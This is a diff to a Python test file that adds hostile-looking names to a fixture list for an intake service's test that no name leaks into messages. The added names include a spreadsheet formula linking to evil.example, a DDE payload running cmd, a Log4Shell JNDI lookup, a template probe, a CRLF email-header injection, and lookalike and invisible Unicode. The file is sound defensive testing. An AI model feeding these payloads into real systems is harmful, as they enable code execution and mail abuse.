@@ -28,6 +28,14 @@ NAMES = [
     "Łukasz O’Brien-Ångström",
     "李小龍",
     "x" * 190,
+    '=HYPERLINK("https://evil.example/x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\u0410d\u0430 L\u043ev\u0435l\u0430c\u0435",  # Cyrillic letters that look like Latin ones
+    "\uff41\uff44\uff41\uff20example.org",
+    "zero\u200bwidth\u2066isolate\u2069\u2028line",
+    "%0d%0aBcc:%20everyone@example.com",
+    "${jndi:ldap://evil.example/a} {{7*7}}",
+    "[](https://evil.example)",
 ]
 
 
@@ -61,7 +69,7 @@ async def test_an_intake_that_cannot_be_used_is_set_aside_and_the_rest_goes_on(
     assert one_value(database, "SELECT array_agg(id) FROM intake WHERE set_aside_at IS NOT NULL") == [row]
 
 
-async def test_no_name_reaches_any_message(service: Service, database: Database) -> None:
+async def test_34_no_name_reaches_any_message(service: Service, database: Database) -> None:
     people = [somebody() for _ in NAMES]
     for address, name in zip(people, NAMES, strict=True):
         await service.drop(address, name=name, organisation=f"Org {name}"[:200], kind="organisation")
